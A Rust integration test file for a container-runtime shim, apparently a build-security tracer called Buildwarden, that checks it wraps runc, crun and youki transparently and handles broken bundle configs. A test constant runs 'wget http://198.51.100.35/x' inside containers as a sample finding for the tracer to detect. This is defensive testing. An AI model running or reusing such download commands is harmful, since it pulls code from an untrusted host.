//! The shim itself: what reaches the runtime, and what becomes of a container when
//! something is wrong.

use crate::harness::{
    Container, Dir, Done, Release, cgroup2_only, in_path, run, run_with_input, youki,
};
use std::{
    fs::{self, OpenOptions},
    io::Write as _,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
    process::Command,
};

const FINDING: &str = "echo out; echo err >&2; wget http://198.51.100.35/x; exit 9";

/// Runs a container's bundle through a runtime.
#[track_caller]
fn through(runtime: &Path, dir: &Dir, bundle: &Path, id: &str, log: &[&str]) -> Done {
    let mut command = Command::new(runtime);
    command.arg("--root").arg(dir.path("runc")).args(log);
    command.env("BUILDWARDEN_CONFIG", dir.config());
    run(command.args(["run", "--bundle"]).arg(bundle).arg(id))
}

#[test]
fn root_the_shim_wraps_runc() {
    for name in ["runc", "buildwarden-runc"] {
        let dir = Dir::new();
        let container = Container::new(&dir, "wrapped").script(FINDING).hooks(&[]);
        container.write_config();
        let done = through(&dir.shim(name), &dir, &container.bundle(), "wrapped", &[]);
        let report = dir.report("wrapped");
        container.write_config();
        let plain = through(&in_path("runc"), &dir, &container.bundle(), "wrapped", &[]);
        assert_eq!((done.code, done.stdout, done.stderr), (9, plain.stdout, plain.stderr));
        assert_eq!(report.findings.len(), 1, "{name}");
        assert_eq!(report.completeness.reasons, [""; 0], "{name}");
        assert_eq!(dir.runs(), ["wrapped"]);
        dir.expect_nothing_live();
    }
}

/// A runtime does the same wrapped and not, and wrapped there is a report.
#[track_caller]
fn wraps(dir: &Dir, runtime: &str, command: impl Fn(&Path) -> Command) {
    // `youki run` can miss the end of a container that ends at once, with us or without.
    let script = format!("sleep 3; {FINDING}");
    let container = Container::new(dir, "wrapped").script(&script).hooks(&[]);
    let through = |program: &Path| {
        container.write_config();
        let mut command = command(program);
        command.env("BUILDWARDEN_CONFIG", dir.config()).arg("--root").arg(dir.path("state-of-it"));
        run(command.arg("run").arg("--bundle").arg(container.bundle()).arg("wrapped"))
    };
    let plain = through(Path::new(runtime)).expect_code(9);
    let done = through(&dir.shim(&format!("buildwarden-{}", name_of(runtime)))).expect_code(9);
    assert_eq!((done.stdout, done.stderr), (plain.stdout, plain.stderr));
    let report = dir.report("wrapped");
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(dir.runs(), ["wrapped"]);
    dir.expect_nothing_live();
}

fn name_of(runtime: &str) -> &str {
    runtime.rsplit('/').next().unwrap_or(runtime)
}

fn with_cgroup2(program: &Path) -> Command {
    let mut command = cgroup2_only();
    command.arg(program);
    command
}

#[test]
fn root_the_shim_wraps_runc_and_crun() {
    for runtime in ["runc", "crun"] {
        wraps(&Dir::new(), runtime, with_cgroup2);
    }
}

#[test]
fn root_the_shim_wraps_the_next_runc_and_crun() {
    for runtime in ["runc", "crun"] {
        let dir = Dir::new();
        let next = Release::next_with_cgroup2(&dir);
        wraps(&dir, runtime, |program| next.command(program));
    }
}

#[test]
fn root_the_shim_wraps_youki() {
    let dir = Dir::new();
    let youki = youki();
    dir.configure(&format!("runtime.youki = {youki:?}"));
    wraps(&dir, youki.to_str().unwrap(), with_cgroup2);
}

#[test]
fn root_what_came_reaches_the_runtime() {
    let dir = Dir::new();
    let runtime = dir.path("runtime");
    let script = "#!/bin/sh\necho \"$0 $# $*\"; env | grep -v ^_= | sort; cat; cat <&7; pwd; \
        echo err >&2; ls /proc/self/fd | wc -l; kill -TERM $$\n";
    fs::write(&runtime, script).unwrap();
    fs::set_permissions(&runtime, fs::Permissions::from_mode(0o755)).unwrap();
    dir.configure(&format!("runtime.crun = {runtime:?}"));
    fs::write(dir.path("seven"), "seven\n").unwrap();
    let shim = dir.shim("buildwarden-crun");
    for args in [
        &["--root", "/r", "kill", "c", "KILL"][..],
        &["create", "--bundle", "/nonexistent", "c"],
        &["--anything", "", " x ", "--", "\u{1b}[31m"],
        &[],
    ] {
        let run = |program: &Path| {
            let mut command = Command::new("sh");
            command.args(["-c", "exec 7<seven; exec \"$@\"", "sh"]).arg(program).args(args);
            command.env("BUILDWARDEN_CONFIG", dir.config()).env("ODD", "a\nb \u{1b}");
            let done = run_with_input(command.current_dir(dir.path("")), b"stdin\n");
            (done.code, done.stdout(), done.stderr())
        };
        let (with, without) = (run(&shim), run(&runtime));
        assert_eq!(with, without, "{args:?}");
        assert!(with.1.contains("\nstdin\nseven\n"), "{with:?}");
        assert_eq!(with.0, 128 + 15, "{with:?}");
    }
}

/// What is wrong with a bundle, and whether a runtime could start it all the same.
struct Fault {
    name: &'static str,
    break_it: fn(&Path),
    starts: bool,
    /// A container that cannot start anyhow is none of our business.
    ours: bool,
}

const FAULTS: [Fault; 7] = [
    Fault { name: "none", break_it: |_| {}, starts: true, ours: false },
    Fault {
        name: "missing",
        break_it: |bundle| fs::remove_file(bundle.join("config.json")).unwrap(),
        starts: false,
        ours: false,
    },
    Fault {
        name: "malformed",
        break_it: |bundle| fs::write(bundle.join("config.json"), "{\"hooks\":").unwrap(),
        starts: false,
        ours: true,
    },
    Fault {
        name: "unreadable",
        break_it: |bundle| {
            let config = bundle.join("config.json");
            fs::remove_file(&config).unwrap();
            symlink("/proc/self/mem", config).unwrap();
        },
        starts: false,
        ours: true,
    },
    Fault {
        name: "not a file",
        break_it: |bundle| {
            fs::remove_file(bundle.join("config.json")).unwrap();
            fs::create_dir(bundle.join("config.json")).unwrap();
        },
        starts: false,
        ours: true,
    },
    Fault {
        name: "huge",
        break_it: |bundle| {
            let mut file =
                OpenOptions::new().append(true).open(bundle.join("config.json")).unwrap();
            file.write_all(&vec![b' '; 64 << 20]).unwrap();
        },
        starts: true,
        ours: true,
    },
    Fault {
        name: "read-only",
        break_it: |bundle| {
            let mount = |args: &[&str]| {
                run(Command::new("mount").args(args).arg(bundle)).expect_code(0);
            };
            // Not what runc itself writes to.
            for path in [bundle, &bundle.join("rootfs")] {
                run(Command::new("mount").arg("--bind").args([path, path])).expect_code(0);
            }
            mount(&["-o", "remount,bind,ro"]);
        },
        starts: true,
        ours: true,
    },
];

#[test]
fn root_a_bundle_that_cannot_be_changed_starts_or_is_refused() {
    for Fault { name, break_it, starts, ours } in FAULTS {
        for deny in [false, true] {
            let dir = Dir::new();
            dir.configure(if deny { "on_error = 'deny'" } else { "" });
            let container = Container::new(&dir, "faulty").script(FINDING).hooks(&[]);
            container.write_config();
            let bundle = container.bundle();
            break_it(&bundle);
            let log = dir.path("log.json");
            let log_options = ["--log", log.to_str().unwrap(), "--log-format", "json"];
            let shim = dir.shim("buildwarden-runc");
            let done = through(&shim, &dir, &bundle, "faulty", &log_options);
            let logged = fs::read_to_string(&log).unwrap_or_default();
            let what = format!("{name}, deny {deny}: {done}\nlog: {logged}");
            let refused = deny && ours;
            assert_eq!(done.code, if starts && !refused { 9 } else { 1 }, "{what}");
            assert_eq!(done.stdout() == "out\n", starts && !refused, "{what}");
            let ours_logged: Vec<serde_json::Value> = logged
                .lines()
                .map(|line| serde_json::from_str(line).expect(&what))
                .filter(|line: &serde_json::Value| {
                    line["msg"].as_str().is_some_and(|text| text.starts_with("buildwarden: "))
                })
                .collect();
            assert_eq!(ours_logged.len(), usize::from(ours), "{what}");
            let level = if deny { "error" } else { "warning" };
            assert!(ours_logged.iter().all(|line| line["level"] == level), "{what}");
            assert_eq!(done.stderr().contains("buildwarden: "), ours, "{what}");
            let traced = starts && !ours;
            assert_eq!(dir.runs().len(), usize::from(traced), "{what}");
            // Nothing of ours lies about.
            let left: Vec<_> =
                fs::read_dir(&bundle).unwrap().map(|e| e.unwrap().file_name()).collect();
            assert!(!left.iter().any(|n| n.as_encoded_bytes().starts_with(b".config")), "{left:?}");
            if traced {
                dir.report("faulty");
            }
            dir.expect_nothing_live();
        }
    }
}

#[test]
fn root_a_runtime_that_is_not_there_is_told() {
    let dir = Dir::new();
    let shim = dir.shim("buildwarden-youki");
    for (config, want) in [
        ("runtime.youki = '/nonexistent/youki'".to_owned(), "cannot execute /nonexistent/youki: "),
        (format!("runtime.youki = {shim:?}"), "is Buildwarden itself"),
    ] {
        dir.configure(&config);
        let mut command = Command::new(&shim);
        let log = dir.path("log");
        command.env("BUILDWARDEN_CONFIG", dir.config()).arg("--log").arg(&log).arg("--version");
        let done = run(&mut command).expect_code(1);
        assert!(done.stderr().contains(want), "{done}");
        let logged = fs::read_to_string(&log).unwrap();
        assert!(logged.contains("level=error") && logged.contains(want), "{logged}");
    }
}
